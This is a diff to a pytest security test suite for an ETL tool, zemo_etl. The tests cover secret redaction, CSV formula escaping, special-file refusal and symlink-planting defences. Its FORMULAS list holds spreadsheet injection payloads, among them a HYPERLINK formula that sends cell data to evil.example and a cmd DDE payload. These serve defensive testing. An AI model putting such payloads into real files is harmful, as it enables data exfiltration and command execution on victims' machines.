@@ -6,10 +6,7 @@ import csv
 import json
 import os
 import pwd
-import shutil
 import stat
-import subprocess
-import tempfile
 import unicodedata
 import urllib.parse
 
@@ -21,8 +18,6 @@ from postgres_fixture import postgres  # noqa: F401  (the fixture)
 from test_parser_mysql import render
 from zemo_etl import cli, parser, safety
 from zemo_etl.index import LibraryIndex
-
-OTHER_USER = "zemo-etl-other"
 
 
 # --- secrets ---------------------------------------------------------------------
@@ -70,10 +65,9 @@ def test_a_run_on_postgres_reports_as_on_sqlite_and_keeps_no_password(main, tmp_
     assert report == (tmp_path / "sqlite" / "releases_classified.csv").read_text(encoding="utf-8")
     assert not (tmp_path / "pg" / "library.db").exists()
     with postgres.connect() as conn:
-        assert conn.execute("SELECT count(*) FROM library").fetchone() == (len(parser.load_table_rows(
-            SAMPLE_DUMP, "library")),)
-        decided = report.count("\n") - 1  # one report row per deduplicated release
-        assert conn.execute("SELECT count(*) FROM release_decisions").fetchone() == (decided,)
+        counts = [conn.execute(f"SELECT count(*) FROM {t}").fetchone()[0] for t in ("library", "release_decisions")]
+    # One decision per report row (per deduplicated release).
+    assert counts == [len(parser.load_table_rows(SAMPLE_DUMP, "library")), report.count("\n") - 1]
     saved = (tmp_path / "pg" / "state.json").read_text(encoding="utf-8")
     assert "Sec" not in saved and json.loads(saved)["database_url"] == safety.redact_url(base)
     # Trust authentication ignores the password: another one is the same run.
@@ -127,69 +121,51 @@ FORMULAS = ['=HYPERLINK("http://evil.example/"&A2,"click")', "@SUM(1+1)*cmd|' /C
             "\tx", "\rx"]
 
 
-@pytest.mark.parametrize("command", ["classify", "resolve", "normalize", "rows", "run"])
+@pytest.mark.parametrize("args", [
+    "classify --library {dump} --releases {d}/in.csv -o {d}/out.csv",
+    "resolve --catalog {d}/in.csv --catalog-column artist --column artist {d}/in.csv -o {d}/out.csv",
+    "normalize --form pg --column title {d}/in.csv -o {d}/out.csv",
+    "rows {d}/d.sql t -o {d}/out.csv",
+    "run --dump {dump} --releases {d}/in.csv --workdir {d}",
+], ids=lambda a: a.split()[0])
 @pytest.mark.parametrize("safe", [False, True])
-def test_formula_cells_are_prefixed_only_with_csv_safe(main, tmp_path, command, safe):
-    releases = tmp_path / "in.csv"
-    with open(releases, "w", newline="", encoding="utf-8") as f:
+def test_formula_cells_are_prefixed_only_with_csv_safe(main, tmp_path, args, safe):
+    with open(tmp_path / "in.csv", "w", newline="", encoding="utf-8") as f:
         csv.writer(f).writerows([["artist", "title"], *[[v, v] for v in FORMULAS], ["plain", "a=b"]])
-    dump = tmp_path / "d.sql"
-    dump.write_text("INSERT INTO `t` VALUES " + ",".join(f"({render(v)},-5)" for v in FORMULAS + ["plain"]) + ";\n",
-                    encoding="utf-8")
-    out = tmp_path / "out.csv"
-    extra = ["--csv-safe"] if safe else []
-    args = {"classify": ["--library", SAMPLE_DUMP, "--releases", str(releases), "-o", str(out)],
-            "resolve": ["--catalog", str(releases), "--catalog-column", "artist", "--column", "artist", str(releases),
-                        "-o", str(out)],
-            "normalize": ["--form", "pg", "--column", "title", str(releases), "-o", str(out)],
-            "rows": [str(dump), "t", "-o", str(out)],
-            "run": ["--dump", SAMPLE_DUMP, "--releases", str(releases), "--workdir", str(tmp_path / "w")]}[command]
-    done = main(command, *args, *extra)
+    values = ",".join(f"({render(v)},-5)" for v in FORMULAS + ["plain"])
+    (tmp_path / "d.sql").write_text(f"INSERT INTO `t` VALUES {values};\n", encoding="utf-8")
+    done = main(*args.format(d=tmp_path, dump=SAMPLE_DUMP).split(), *(["--csv-safe"] if safe else []))
     assert done.returncode == 0, done.stderr
-    if command == "run":
-        out = tmp_path / "w" / "releases_classified.csv"
+    out = tmp_path / ("releases_classified.csv" if args.startswith("run") else "out.csv")
     with open(out, newline="", encoding="utf-8") as f:
-        rows = list(csv.reader(f))
-    first = [r[0] for r in rows if r[0] not in ("artist",)]
-    assert sorted(first) == sorted(("'" + v if safe and v != "plain" else v) for v in FORMULAS + ["plain"])
-    if command == "rows":
+        rows = [r for r in csv.reader(f) if r[0] != "artist"]
+    assert sorted(r[0] for r in rows) == sorted(("'" + v if safe and v != "plain" else v) for v in FORMULAS + ["plain"])
+    if args.startswith("rows"):
         assert all(r[1] == "-5" for r in rows)  # numbers are not text cells
 
 
 # --- inputs: regular files only ---------------------------------------------------------
 
-@pytest.fixture
-def specials(tmp_path):
-    os.mkfifo(tmp_path / "fifo")
-    (tmp_path / "dir").mkdir()
-    return tmp_path
-
-
 @pytest.mark.parametrize("kind, what", [("fifo", "is a FIFO"), ("dir", "is a directory"),
                                         ("/dev/zero", "is a device")])
 @pytest.mark.parametrize("args", [
-    ["classify", "--library", "{}", "--releases", SAMPLE_RELEASES],
-    ["classify", "--library", SAMPLE_DUMP, "--releases", "{}"],
-    ["rows", "{}", "library"],
-    ["normalize", "--form", "match", "{}"],
-    ["resolve", "--catalog", "{}", "-"],
-    ["resolve", "--catalog", SAMPLE_RELEASES, "--catalog-column", "artist", "{}"],
-    ["load", "{}", "library", "--into", "sqlite:///{db}"],
-    ["state", "show", "{}"],
-    ["state", "check", "{}", "--db-url", "u", "--csv-dir", "d"],
-    ["run", "--dump", "{}", "--releases", SAMPLE_RELEASES, "--workdir", "{db}"],
-    ["run", "--dump", SAMPLE_DUMP, "--releases", "{}", "--workdir", "{db}"],
-], ids=lambda a: " ".join(a[:3]) if isinstance(a, list) else None)
-def test_special_files_are_refused_at_once(specials, kind, what, args):
-    path = kind if kind.startswith("/") else str(specials / kind)
-    done = zemo(*[a.format(path, db=specials / "x.db") for a in args], input="", timeout=30)
-    one_line_error(done, path, what)
-    assert not os.path.exists(specials / "x.db" / "state.json")  # a run refuses before any step
+    "classify --library {p} --releases {rel}", "classify --library {dump} --releases {p}", "rows {p} library",
+    "normalize --form match {p}", "resolve --catalog {p} -", "resolve --catalog {rel} --catalog-column artist {p}",
+    "load {p} library --into sqlite:///{db}", "state show {p}", "state check {p} --db-url u --csv-dir d",
+    "run --dump {p} --releases {rel} --workdir {db}", "run --dump {dump} --releases {p} --workdir {db}",
+], ids=lambda a: " ".join(a.split()[:3]) if " " in a else None)
+def test_special_files_are_refused_at_once(tmp_path, kind, what, args):
+    os.mkfifo(tmp_path / "fifo")
+    (tmp_path / "dir").mkdir()
+    path = kind if kind.startswith("/") else str(tmp_path / kind)
+    argv = args.format(p=path, db=tmp_path / "x.db", dump=SAMPLE_DUMP, rel=SAMPLE_RELEASES).split()
+    one_line_error(zemo(*argv, input="", timeout=30), path, what)
+    assert not os.path.exists(tmp_path / "x.db" / "state.json")  # a run refuses before any step
 
 
 # --- outputs: private temporary files, no planted names, no symlinks ----------------------
 
-def test_planted_temporary_names_are_never_opened(tmp_path, monkeypatch):
+def test_planted_temporary_names_are_never_opened_and_a_fifo_is_written_into(tmp_path, monkeypatch):
     victim = tmp_path / "victim"
     victim.write_text("precious")
     names = iter(["a1", "a2", "a3", "b1"])
@@ -205,45 +181,33 @@ def test_planted_temporary_names_are_never_opened(tmp_path, monkeypatch):
     assert not (tmp_path / "out.csv").is_symlink() and (tmp_path / "out.csv").read_text() == "report"
     assert stat.S_IMODE((tmp_path / "out.csv").stat().st_mode) == safety.output_mode()
     assert not (tmp_path / ".out.csv.a3.tmp").exists()
-
-    # Failure (Ctrl-C included): the target as it was, no temporary file left.
-    before = sorted(os.listdir(tmp_path))
-    with pytest.raises(KeyboardInterrupt), safety.atomic_write(tmp_path / "out.csv") as f:
-        f.write("half")
-        raise KeyboardInterrupt
-    assert sorted(os.listdir(tmp_path)) == before and (tmp_path / "out.csv").read_text() == "report"
+    # A FIFO is written into, not replaced.
+    os.mkfifo(tmp_path / "pipe")
+    reader = os.open(tmp_path / "pipe", os.O_RDONLY | os.O_NONBLOCK)  # so that opening to write does not wait
+    try:
+        with safety.atomic_write(tmp_path / "pipe") as f:
+            f.write("streamed")
+        assert os.read(reader, 100) == b"streamed" and stat.S_ISFIFO(os.lstat(tmp_path / "pipe").st_mode)
+    finally:
+        os.close(reader)
 
 
 @pytest.mark.parametrize("args", [
-    ["rows", SAMPLE_DUMP, "library", "-o", "{}"],
-    ["normalize", "--form", "match", SAMPLE_RELEASES, "-o", "{}"],
-    ["resolve", "--catalog", SAMPLE_RELEASES, "--catalog-column", "artist", SAMPLE_RELEASES, "-o", "{}"],
-    ["classify", "--library", SAMPLE_DUMP, "--releases", SAMPLE_RELEASES, "-o", "{}"],
-    ["classify", "--library", SAMPLE_DUMP, "--releases", SAMPLE_RELEASES, "--save-index", "{}"],
-], ids=lambda a: a[0] + (" --save-index" if "--save-index" in a else ""))
+    "rows {dump} library -o", "normalize --form match {rel} -o",
+    "resolve --catalog {rel} --catalog-column artist {rel} -o", "classify --library {dump} --releases {rel} -o",
+    "classify --library {dump} --releases {rel} --save-index",
+], ids=lambda a: a.split()[0] + (" --save-index" if "--save-index" in a else ""))
 def test_outputs_replace_a_planted_symlink(main, tmp_path, args):
     victim = tmp_path / "victim"
     victim.write_text("precious")
     target = tmp_path / "out"
     target.symlink_to(victim)
-    done = main(*[a.format(target) for a in args])
+    done = main(*args.format(dump=SAMPLE_DUMP, rel=SAMPLE_RELEASES).split(), str(target))
     assert done.returncode == 0, done.stderr
     assert victim.read_text() == "precious" and not target.is_symlink() and target.stat().st_size > 0
     assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "victim"]
     if "--save-index" in args:
         assert len(LibraryIndex.load(target)) == 3000
-
-
-def test_a_fifo_output_is_written_not_replaced(tmp_path):
-    fifo = tmp_path / "pipe"
-    os.mkfifo(fifo)
-    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)  # so that opening to write does not wait
-    try:
-        with safety.atomic_write(fifo) as f:
-            f.write("streamed")
-        assert os.read(reader, 100) == b"streamed" and stat.S_ISFIFO(os.lstat(fifo).st_mode)
-    finally:
-        os.close(reader)
 
 
 def test_a_sqlite_database_is_not_opened_through_a_symlink(main, tmp_path):
@@ -263,68 +227,30 @@ def test_a_sqlite_database_is_not_opened_through_a_symlink(main, tmp_path):
 
 @pytest.fixture(scope="session")
 def other_user():
-    """An unprivileged second user (uid, gid), created for the session when missing."""
+    """(uid, gid) of an unprivileged user that is not us, to give files to."""
     if os.geteuid() != 0:
-        pytest.skip("acting as a second user needs root")
-    created = False
+        pytest.skip("giving files to another user needs root")
     try:
-        pw = pwd.getpwnam(OTHER_USER)
+        pw = pwd.getpwnam("nobody")
     except KeyError:
-        if shutil.which("useradd") is None:
-            pytest.skip("no useradd to create a second user")
-        subprocess.run(["useradd", "--system", "--no-create-home", "--shell", "/usr/sbin/nologin", OTHER_USER],
-                       check=True, capture_output=True)
-        created = True
-        pw = pwd.getpwnam(OTHER_USER)
-    yield pw.pw_uid, pw.pw_gid
-    if created:
-        subprocess.run(["userdel", OTHER_USER], capture_output=True)
+        pytest.skip("no user 'nobody'")
+    return pw.pw_uid, pw.pw_gid
 
 
-@pytest.fixture
-def shared_folder():
-    """A world-writable sticky folder (as /tmp) the second user can reach."""
-    path = tempfile.mkdtemp(prefix="zemo-shared-", dir="/tmp")
-    os.chmod(path, 0o1777)
-    yield path
-    shutil.rmtree(path, ignore_errors=True)
-
-
-def as_user(user, action):
-    """Run `action` in a child process that has become `user`."""
-    pid = os.fork()
-    if pid == 0:
-        code = 1
-        try:
-            os.setgroups([])
-            os.setgid(user[1])
-            os.setuid(user[0])
-            action()
-            code = 0
-        finally:
-            os._exit(code)
-    assert os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0
-
-
-def test_a_planted_report_symlink_in_another_users_folder(other_user, shared_folder, tmp_path):
+def test_a_planted_report_symlink_in_another_users_folder(other_user, tmp_path):
     victim = tmp_path / "victim.txt"
     victim.write_text("precious")
-    job = os.path.join(shared_folder, "job")
-
-    def plant():
-        os.mkdir(job)
-        os.chmod(job, 0o777)
-        os.symlink(victim, os.path.join(job, "releases_classified.csv"))
-
-    as_user(other_user, plant)
+    job = str(tmp_path / "job")
+    report = os.path.join(job, "releases_classified.csv")
+    os.mkdir(job)
+    os.symlink(victim, report)
+    for path in (job, report):
+        os.lchown(path, *other_user)
     args = ["run", "--dump", SAMPLE_DUMP, "--releases", SAMPLE_RELEASES, "--workdir", job]
     one_line_error(zemo(*args), job, "owned by another user", "--allow-shared-folder")
     assert os.listdir(job) == ["releases_classified.csv"]
-
     allowed = zemo(*args, "--allow-shared-folder")
-    assert allowed.returncode == 0, allowed.stderr
-    assert "warning" in allowed.stderr and job in allowed.stderr
-    report = os.path.join(job, "releases_classified.csv")
+    assert allowed.returncode == 0 and "warning" in allowed.stderr and job in allowed.stderr, allowed.stderr
     assert victim.read_text() == "precious"
     assert not os.path.islink(report) and os.stat(report).st_uid == 0
 
